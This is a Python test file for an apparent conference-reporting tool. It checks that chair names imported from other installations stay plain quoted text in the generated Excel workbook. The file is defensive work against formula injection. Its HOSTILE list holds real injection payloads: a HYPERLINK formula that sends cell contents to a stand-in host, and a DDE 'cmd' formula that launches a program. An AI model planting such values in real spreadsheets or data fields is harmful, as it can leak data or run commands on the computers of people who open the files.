"""No cell of the workbook can become a formula from data: a chair's name arrives from another installation,
and a spreadsheet runs text starting with = + - @ as a formula. The workbook is read back with openpyxl."""

from __future__ import annotations

import io
import json
import shutil
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select, update

from cpchair.reports.workbook import build_workbook
from cpchair.services import dashboard
from cpchair.services.merge import merge_folder
from cpchair.storage.db import open_database
from cpchair.storage.models import MergedConference
from tests.conftest import CONFORMANCE

YEAR = (date(2024, 4, 1), date(2025, 3, 31))
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]
OLD = "\tOld\x01 =1+1"


def test_chair_names_that_look_like_formulas_stay_text_in_every_cell(tmp_path):
    share = tmp_path / "share"
    shutil.copytree(CONFORMANCE / "share", share)
    for i, name in enumerate(HOSTILE[:3], start=1):  # the names travel in real export files
        for path in share.glob(f"cpchair-chair-{i}-*.json"):
            doc = json.loads(path.read_text("utf-8"))
            doc["chair_name"] = name
            path.write_text(json.dumps(doc), "utf-8")
    db = open_database(tmp_path / "coordinator.sqlite")
    try:
        with db.session() as s:
            summary = merge_folder(s, share, allow_unsigned=True)
            assert not summary.rejected  # printable names: accepted, and made harmless where they are shown
            # two more chairs, one with a name stored by an older release before names were checked
            ids = sorted(s.scalars(select(MergedConference.id).where(MergedConference.chair_name == HOSTILE[2])))
            for n, (chair_id, name) in enumerate((("c-at", HOSTILE[3]), ("c-old", OLD))):
                s.execute(
                    update(MergedConference)
                    .where(MergedConference.id.in_(ids[n::3]))
                    .values(chair_id=chair_id, chair_name=name)
                )
            s.commit()
        with db.session() as s:
            dash = dashboard.load_dashboard(s, *YEAR)
            assert set(HOSTILE) <= set(dash.chairs)
            single = dashboard.load_dashboard(s, *YEAR, chair=HOSTILE[0])
    finally:
        db.dispose()

    wb = load_workbook(io.BytesIO(build_workbook(dash)))
    seen: dict[str, int] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    assert cell.data_type == "s" and cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
                    seen[cell.value] = seen.get(cell.value, 0) + 1
                if isinstance(cell.value, str) and "Old" in cell.value:
                    assert cell.value == OLD.replace("\x01", "") and cell.data_type == "s" and cell.quotePrefix
                    seen["old"] = seen.get("old", 0) + 1
    assert set(seen) == {*HOSTILE, "old"}  # each name appears, in the by-chair tables
    assert min(seen.values()) >= 5

    summary_sheet = load_workbook(io.BytesIO(build_workbook(single)))["Summary"]
    chair_cells = [c for row in summary_sheet.iter_rows() for c in row if c.value == HOSTILE[0]]
    assert len(chair_cells) == 1 and chair_cells[0].data_type == "s" and chair_cells[0].quotePrefix
